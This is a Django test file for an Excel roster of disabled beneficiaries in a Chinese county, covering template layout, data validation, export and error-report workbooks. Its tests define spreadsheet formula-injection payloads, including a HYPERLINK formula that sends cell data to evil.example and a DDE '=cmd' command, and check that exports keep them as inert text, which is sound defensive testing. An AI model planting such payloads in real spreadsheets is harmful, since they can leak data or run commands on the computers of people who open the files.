import zipfile
from io import BytesIO

import pytest
from django.test import SimpleTestCase
from django.utils.translation import gettext as _
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from areas.models import Area, AreaLevel
from beneficiaries.models import Person
from beneficiaries.roster_columns import ROSTER_COLUMNS
from beneficiaries.roster_workbooks import (
    FIRST_DATA_ROW,
    HEADER_ROW,
    TEMPLATE_ROWS,
    error_workbook,
    person_export_rows,
    roster_template,
    roster_title,
    write_roster,
)
from beneficiaries.services import household_register, person_register
from tests.cast import RUIJIN, CastTestCase

from .factories import first_village, household_data, person_data

LABELS = [column.label for column in ROSTER_COLUMNS]
LETTER = {column.key: get_column_letter(index) for index, column in enumerate(ROSTER_COLUMNS, 1)}
LAST_ROW = FIRST_DATA_ROW + TEMPLATE_ROWS - 1
ERROR_RGB = "00FFC7CE"

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 139 0797 0001",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def read(data: bytes, **options) -> Workbook:
    return load_workbook(BytesIO(data), **options)


def row_values(sheet: Worksheet, row: int, width: int = len(ROSTER_COLUMNS)) -> list:
    return [sheet.cell(row, column).value for column in range(1, width + 1)]


def sheet_xml(data: bytes, index: int = 1) -> str:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode()


def roster_row(number: int, **values) -> dict:
    row = {column.key: None for column in ROSTER_COLUMNS}
    row.update({"row_number": number, "township": "象湖镇", "village": "城南村", "name": f"测试{number}"})
    row.update(values)
    return row


class RosterTemplateTest(CastTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.data = roster_template(RUIJIN)

    def setUp(self):
        self.workbook = read(self.data)
        self.sheet = self.workbook.worksheets[0]

    def validation(self, key: str):
        letter = LETTER[key]
        found = [
            dv for dv in self.sheet.data_validations.dataValidation if str(dv.sqref).startswith(f"{letter}")
        ]
        self.assertEqual(len(found), 1, key)
        self.assertEqual(str(found[0].sqref), f"{letter}{FIRST_DATA_ROW}:{letter}{LAST_ROW}")
        return found[0]

    def listed(self, key: str) -> list[str]:
        """The values a list validation offers, from its literal list or its range on the options sheet."""
        formula = self.validation(key).formula1
        if formula.startswith('"'):
            return formula.strip('"').split(",")
        sheet_name, cells = formula.split("!")
        options = self.workbook[sheet_name.strip("'")]
        return [cell.value for (cell,) in options[cells.replace("$", "")]]

    def test_sheets_title_and_header(self):
        self.assertEqual(self.workbook.sheetnames, [_("Roster"), _("Instructions"), _("Options")])
        self.assertEqual(self.sheet["A1"].value, roster_title("瑞金市"))
        self.assertTrue(self.sheet["A1"].font.bold)
        self.assertIn(f"A1:{get_column_letter(len(LABELS))}1", {str(r) for r in self.sheet.merged_cells})
        self.assertEqual(self.sheet["A2"].value, _("Reporting unit: ____________    Date: ____________"))
        self.assertEqual(HEADER_ROW, 3)
        self.assertEqual(row_values(self.sheet, HEADER_ROW), LABELS)
        self.assertIsNone(self.sheet.cell(HEADER_ROW, len(LABELS) + 1).value)
        for index, column in enumerate(ROSTER_COLUMNS, 1):
            cell = self.sheet.cell(HEADER_ROW, index)
            self.assertTrue(cell.font.bold)
            self.assertEqual(cell.fill.fill_type, "solid")
            self.assertEqual(cell.border.bottom.style, "thin")
            self.assertEqual(self.sheet.column_dimensions[get_column_letter(index)].width, column.width)
        self.assertEqual(self.sheet["B3"].font.color.rgb, "00C00000")  # 乡镇 is required

    def test_panes_are_frozen_below_the_header(self):
        self.assertEqual(self.sheet.freeze_panes, f"A{FIRST_DATA_ROW}")

    def test_number_columns_are_text_on_every_prepared_row(self):
        for column in ROSTER_COLUMNS:
            letter = LETTER[column.key]
            formats = {
                self.sheet[f"{letter}{row}"].number_format for row in range(FIRST_DATA_ROW, LAST_ROW + 1)
            }
            self.assertEqual(formats, {"@"} if column.text else {"General"}, column.label)
        self.assertEqual(
            [c.key for c in ROSTER_COLUMNS if c.text], ["id_number", "certificate_number", "phone"]
        )
        self.assertEqual(self.sheet.column_dimensions[LETTER["id_number"]].number_format, "@")

    def test_township_and_village_lists_are_the_countys(self):
        townships = list(Area.objects.filter(parent_id=RUIJIN).values_list("name", flat=True))
        self.assertEqual(len(townships), 18)
        self.assertEqual(self.listed("township"), townships)
        villages = set(
            Area.objects.filter(code__startswith=RUIJIN, level=AreaLevel.VILLAGE).values_list(
                "name", flat=True
            )
        )
        listed = self.listed("village")
        self.assertEqual(set(listed), villages)
        self.assertEqual(len(listed), len(villages))  # each name once
        self.assertTrue(self.validation("village").formula1.startswith(f"'{_('Options')}'!$B$2"))
        self.assertEqual(self.workbook[_("Options")].sheet_state, "hidden")

    def test_choice_lists(self):
        self.assertEqual(self.listed("gender"), ["男", "女"])
        self.assertEqual(
            self.listed("disability_category"), ["视力", "听力", "言语", "肢体", "智力", "精神", "多重"]
        )
        self.assertEqual(self.listed("disability_level"), ["一级", "二级", "三级", "四级"])
        self.assertEqual(
            self.listed("relation_to_head"),
            ["户主", "配偶", "子女", "父母", "兄弟姐妹", "祖父母", "孙子女", "儿媳", "女婿", "其他"],
        )
        self.assertEqual(self.listed("poverty_status"), ["未脱贫", "已脱贫", "返贫", "非建档立卡"])
        self.assertEqual(self.listed("is_dibao"), ["是", "否"])
        for key in ("township", "village", "gender", "disability_category", "is_dibao"):
            validation = self.validation(key)
            self.assertEqual(validation.type, "list")
            self.assertTrue(validation.showErrorMessage)
            self.assertTrue(validation.allow_blank)
            self.assertLessEqual(len(validation.formula1), 255)

    def test_exit_year_is_a_whole_number_from_2014_to_2030(self):
        validation = self.validation("exit_year")
        self.assertEqual(
            (validation.type, validation.operator, validation.formula1, validation.formula2),
            ("whole", "between", "2014", "2030"),
        )
        self.assertEqual(len(self.sheet.data_validations.dataValidation), 9)

    def test_instructions_cover_every_column(self):
        sheet = self.workbook[_("Instructions")]
        self.assertEqual(sheet["A1"].value, _("How to fill in the roster"))
        heading = next(
            i for i, row in enumerate(sheet.iter_rows(values_only=True), 1) if row[0] == _("Column")
        )
        rows = list(sheet.iter_rows(min_row=heading + 1, values_only=True))
        self.assertEqual([row[0] for row in rows], LABELS)
        rules = {label: rule for label, _required, rule in rows}
        self.assertTrue(all(rules.values()))
        self.assertEqual(
            [label for label, required, _rule in rows if required == _("Required")],
            [c.label for c in ROSTER_COLUMNS if c.required],
        )
        self.assertIn("18", rules["身份证号"])
        self.assertIn("X", rules["身份证号"])
        self.assertIn("4=肢体", rules["残疾证号"])
        self.assertIn("瑞金市", rules["村"])
        self.assertIn("户主", rules["与户主关系"])
        general = [row[1] for row in sheet.iter_rows(min_row=4, max_row=heading - 2, values_only=True)]
        self.assertIn(_("Columns with a red header are required."), general)
        self.assertTrue(any("3.60781E+17" in rule for rule in general))
        self.assertTrue(any(str(TEMPLATE_ROWS) in rule for rule in general))

    def test_an_unknown_county_is_refused(self):
        with self.assertRaises(Area.DoesNotExist):
            roster_template("360700")  # a city


class ExportTest(CastTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        clerk = cls.cast["ruijin_clerk"]
        household = household_register(
            actor=clerk, data=household_data(poverty_status="out", exit_year=2018, is_dibao=True)
        )
        cls.head = person_register(
            actor=clerk,
            data=person_data(sequence=7, name="钟长生", household=household.pk, relation_to_head="head"),
        )
        cls.daughter_in_law = person_register(
            actor=clerk,
            data=person_data(
                sequence=8, category=1, level=3, household=household.pk, relation_to_head="child_in_law"
            ),
        )
        cls.alone = person_register(
            actor=clerk,
            data=person_data(sequence=9, name=INJECTIONS[0], certificate_number="", phone="", category=5),
        )

    def export(self) -> tuple[int, bytes]:
        buffer = BytesIO()
        count = write_roster(
            person_export_rows(Person.objects.filter(county_code=RUIJIN)),
            buffer,
            title=roster_title("瑞金市"),
        )
        return count, buffer.getvalue()

    def test_round_trip(self):
        count, data = self.export()
        self.assertEqual(count, 3)
        sheet = read(data).worksheets[0]
        village = first_village(RUIJIN)
        township = Area.objects.get(code=village.parent_id).name
        self.assertEqual(sheet["A1"].value, roster_title("瑞金市"))
        self.assertEqual(row_values(sheet, HEADER_ROW), LABELS)
        self.assertEqual(sheet.freeze_panes, f"A{FIRST_DATA_ROW}")
        self.assertEqual(
            row_values(sheet, FIRST_DATA_ROW),
            [1, township, village.name, "钟长生", "男", self.head.id_number, self.head.certificate_number,
             "肢体", "二级", "钟长生", "户主", 4, "已脱贫", 2018, "是", "13907970001", None],
        )  # fmt: skip
        self.assertEqual(
            row_values(sheet, FIRST_DATA_ROW + 1),
            [2, township, village.name, "钟秀英", "女", self.daughter_in_law.id_number,
             self.daughter_in_law.certificate_number, "视力", "三级", "钟长生", "儿媳", 4, "已脱贫", 2018,
             "是", "13907970001", None],
        )  # fmt: skip
        self.assertEqual(
            row_values(sheet, FIRST_DATA_ROW + 2),
            [3, township, village.name, INJECTIONS[0], "男", self.alone.id_number, None, "智力", "二级",
             None, None, None, None, None, None, None, None],
        )  # fmt: skip
        self.assertEqual(sheet.max_row, FIRST_DATA_ROW + 2)

    def test_whole_numbers_are_text(self):
        sheet = read(self.export()[1]).worksheets[0]
        for key in ("id_number", "certificate_number", "phone"):
            cell = sheet[f"{LETTER[key]}{FIRST_DATA_ROW}"]
            self.assertEqual((cell.data_type, cell.number_format), ("s", "@"), key)
        self.assertEqual(len(sheet[f"{LETTER['id_number']}{FIRST_DATA_ROW}"].value), 18)
        self.assertNotIn("*", sheet[f"{LETTER['id_number']}{FIRST_DATA_ROW}"].value)

    def test_a_name_that_looks_like_a_formula_stays_a_string(self):
        data = self.export()[1]
        cell = read(data).worksheets[0][f"{LETTER['name']}{FIRST_DATA_ROW + 2}"]
        self.assertEqual((cell.value, cell.data_type), (INJECTIONS[0], "s"))
        self.assertNotIn("<f>", sheet_xml(data))

    def test_area_names_are_looked_up_once(self):
        with self.assertNumQueries(2):
            rows = list(person_export_rows(Person.objects.filter(county_code=RUIJIN)))
        self.assertEqual([row["row_number"] for row in rows], [1, 2, 3])

    def test_the_callers_order_is_kept(self):
        rows = person_export_rows(Person.objects.filter(county_code=RUIJIN).order_by("-id"))
        self.assertEqual([row["id_number"] for row in rows][0], self.alone.id_number)


class WriteRosterTest(SimpleTestCase):
    def test_formula_like_values_are_inert_strings(self):
        rows = [roster_row(n, name=value, note=value) for n, value in enumerate([*INJECTIONS, "#N/A"], 1)]
        buffer = BytesIO()
        write_roster(rows, buffer, title="=1+1")
        data = buffer.getvalue()
        self.assertNotIn("<f>", sheet_xml(data))
        sheet = read(data).worksheets[0]
        self.assertEqual((sheet["A1"].value, sheet["A1"].data_type), ("=1+1", "s"))
        for offset, value in enumerate([*INJECTIONS, "#N/A"]):
            for key in ("name", "note"):
                cell = sheet[f"{LETTER[key]}{FIRST_DATA_ROW + offset}"]
                # XML reads every line end as \n, so "\r=1+1" comes back as "\n=1+1".
                self.assertEqual((cell.value, cell.data_type), (value.replace("\r", "\n"), "s"))
                if value != "#N/A":
                    # What Excel records for a value typed with a leading apostrophe: shown as is, kept
                    # as text when edited.
                    self.assertTrue(cell.quotePrefix, repr(value))
                    self.assertEqual(cell.number_format, "@")
        plain = sheet[f"{LETTER['township']}{FIRST_DATA_ROW}"]
        self.assertFalse(plain.quotePrefix)

    def test_a_thousand_rows_stream(self):
        rows = (
            roster_row(
                n, id_number=f"36078119750314{n:04d}", exit_year=2014 + n % 7, household_size=n % 6 + 1
            )
            for n in range(1, 1001)
        )
        buffer = BytesIO()
        self.assertEqual(write_roster(rows, buffer, title="瑞金市"), 1000)
        sheet = read(buffer.getvalue(), read_only=True).worksheets[0]
        values = list(sheet.iter_rows(min_row=FIRST_DATA_ROW, values_only=True))
        self.assertEqual(len(values), 1000)
        last = values[-1]
        self.assertEqual(last[:4], (1000, "象湖镇", "城南村", "测试1000"))
        self.assertEqual(last[5], "360781197503141000")
        self.assertEqual((last[11], last[13]), (5, 2020))


HEADER = ["序号", "乡镇", "村", "姓名", "身份证号码", "残疾类别", "手机"]
UPLOADED = [
    (4, [1, "象湖镇", "城南村", "钟长生", "36078119750314007X", "肢体", "13907970001"]),
    (5, [2, "象湖镇", "城南村", "李四", 360781197503140071, "飞行", 13907970002]),
    (6, [3, "象湖镇", "城南村", '=cmd|" /C calc"!A0', 3.60781197503141e17, "视力", None]),
    (7, [4, "象湖镇", None, "王五"]),
    (9, [5, "象湖镇", "城南村", "赵六", "36078119750314011X", "多重", "0797-2512345"]),
]
ERRORS = {
    5: {4: "身份证号：校验位不对。", 5: "残疾类别：请从列表中选择。"},
    6: {4: "身份证号：被当成数字粘贴，末几位已丢失。"},
    7: {2: "村：必填。", 5: "残疾类别：必填。"},
}
# As the upload counts them: per column, in its own order; 身份证号 is the roster's name of 身份证号码.
SUMMARY = [("残疾类别", 2), ("身份证号", 2), ("户主姓名", 1)]


class ErrorWorkbookTest(SimpleTestCase):
    def setUp(self):
        data = error_workbook(
            header=HEADER, header_row_number=3, rows=UPLOADED, errors=ERRORS, summary=SUMMARY
        )
        self.data = data
        self.workbook = read(data)
        self.sheet, self.summary = self.workbook.worksheets

    def test_only_rows_with_errors_as_they_were(self):
        self.assertEqual(self.workbook.sheetnames, [_("Rows with errors"), _("Error summary")])
        self.assertEqual(self.sheet.freeze_panes, "B2")
        width = len(HEADER) + 1
        self.assertEqual(row_values(self.sheet, 1, width), [_("Original row"), *HEADER])
        self.assertTrue(self.sheet["A1"].font.bold)
        self.assertEqual(
            [row_values(self.sheet, row, width) for row in range(2, 5)],
            [
                [5, 2, "象湖镇", "城南村", "李四", "360781197503140071", "飞行", "13907970002"],
                [6, 3, "象湖镇", "城南村", '=cmd|" /C calc"!A0', "360781197503141000", "视力", None],
                [7, 4, "象湖镇", None, "王五", None, None, None],
            ],
        )
        self.assertEqual(self.sheet.max_row, 4)

    def test_id_like_values_and_formulas_are_text(self):
        self.assertNotIn("<f>", sheet_xml(self.data))
        for coordinate in ("F2", "F3"):
            cell = self.sheet[coordinate]
            self.assertEqual((cell.data_type, cell.number_format), ("s", "@"), coordinate)
        self.assertEqual(self.sheet["E3"].data_type, "s")
        # 手机 is one of the phone column's names, so its number keeps every digit as text too.
        self.assertEqual((self.sheet["H2"].value, self.sheet["H2"].data_type), ("13907970002", "s"))
        self.assertEqual((self.sheet["B2"].value, self.sheet["B2"].data_type), (2, "n"))

    def test_bad_cells_are_red_with_the_reason(self):
        sheet_row = {5: 2, 6: 3, 7: 4}  # the upload's rows 4 and 9 have no error
        expected = {
            (sheet_row[row_number], index + 2): message
            for row_number, messages in ERRORS.items()
            for index, message in messages.items()
        }
        self.assertEqual(len(expected), 5)
        for row in self.sheet.iter_rows(min_row=1, max_row=4, max_col=len(HEADER) + 1):
            for cell in row:
                message = expected.get((cell.row, cell.column))
                if message is None:
                    self.assertNotEqual(cell.fill.fgColor.rgb, ERROR_RGB, cell.coordinate)
                    self.assertIsNone(cell.comment, cell.coordinate)
                else:
                    self.assertEqual(cell.fill.fill_type, "solid", cell.coordinate)
                    self.assertEqual(cell.fill.fgColor.rgb, ERROR_RGB, cell.coordinate)
                    self.assertEqual(cell.comment.text, message)
                    self.assertEqual(cell.comment.author, _("Import check"))
        self.assertEqual(self.sheet["G4"].value, None)  # a short row's missing cell still carries its error

    def test_summary_lists_each_column_with_its_rows(self):
        rows = list(self.summary.iter_rows(values_only=True))
        self.assertEqual(rows[0][0], _("Error summary"))
        self.assertEqual(rows[1][:2], (_("Header row in the uploaded sheet"), 3))
        heading = rows.index((_("Column"), _("Rows with an error"), _("Row numbers")))
        self.assertEqual(
            rows[heading + 1 :],
            [
                ("残疾类别", 2, "5, 7"),
                ("身份证号", 2, "5, 6"),
                ("户主姓名", 1, None),  # not a column of the upload: no rows to point at
                ("村", 1, "7"),  # has errors but was not in the caller's summary
            ],
        )

    def test_without_a_summary_the_columns_are_counted(self):
        data = error_workbook(header=HEADER, header_row_number=3, rows=[], errors=ERRORS, summary=[])
        rows = list(read(data).worksheets[1].iter_rows(values_only=True))
        heading = rows.index((_("Column"), _("Rows with an error"), _("Row numbers")))
        self.assertEqual(
            rows[heading + 1 :], [("村", 1, "7"), ("身份证号码", 2, "5, 6"), ("残疾类别", 2, "5, 7")]
        )

    def test_a_long_row_list_is_cut_to_fit_a_cell(self):
        errors = {row: {3: "姓名：必填。"} for row in range(4, 20_004)}
        data = error_workbook(header=HEADER, header_row_number=3, rows=[], errors=errors, summary=[])
        label, count, listed = list(read(data).worksheets[1].iter_rows(values_only=True))[-1]
        self.assertEqual((label, count), ("姓名", 20_000))
        self.assertLess(len(listed), 32_767)
        self.assertTrue(listed.startswith("4, 5, 6"))
        shown = listed.count(",") + 1
        self.assertTrue(
            listed.endswith(_("%(rows)s … and %(count)s more") % {"rows": "", "count": 20_000 - shown})
        )

    def test_an_error_outside_the_header_is_refused(self):
        with pytest.raises(ValueError, match="no column 7"):
            error_workbook(header=HEADER, header_row_number=3, rows=[], errors={4: {7: "?"}}, summary=[])
